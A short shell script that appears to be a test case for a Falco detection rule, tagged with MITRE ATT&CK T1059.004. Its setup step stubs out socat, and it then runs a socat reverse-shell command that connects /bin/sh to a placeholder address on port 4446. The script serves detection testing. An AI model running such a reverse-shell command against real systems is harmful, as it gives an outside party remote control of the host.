#!/bin/sh
# title: socat wiring a shell to a connection
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# source: https://attack.mitre.org/techniques/T1059/004/ ; Falco "Netcat/Socat Remote Code Execution on Host"
# expect: Netcat or socat executing a program
# setup: printf '#!/bin/sh\nexit 0\n' > /usr/local/bin/socat && chmod 755 /usr/local/bin/socat
socat TCP:198.51.100.1:4446 EXEC:/bin/sh,pty,stderr,setsid
